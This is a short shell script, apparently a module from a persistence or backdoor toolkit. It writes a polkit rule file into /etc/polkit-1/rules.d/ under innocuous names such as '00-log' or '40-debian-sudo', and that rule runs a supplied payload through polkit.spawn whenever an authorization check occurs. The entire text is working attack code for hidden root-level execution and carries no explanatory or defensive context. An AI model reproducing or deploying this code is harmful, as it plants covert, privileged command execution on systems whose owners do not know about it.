#!/bin/sh
# polkit-spawn: a rule that runs a program (polkit(8), polkit.spawn)
. "${0%/*}/lib.sh"
payload
put "/etc/polkit-1/rules.d/$(named 00-log 40-debian-sudo).rules" 644 \
	"${head:+//${head#\#}}" "polkit.addRule(function(action, subject) {" \
	"	polkit.spawn([$argj]);" "});"
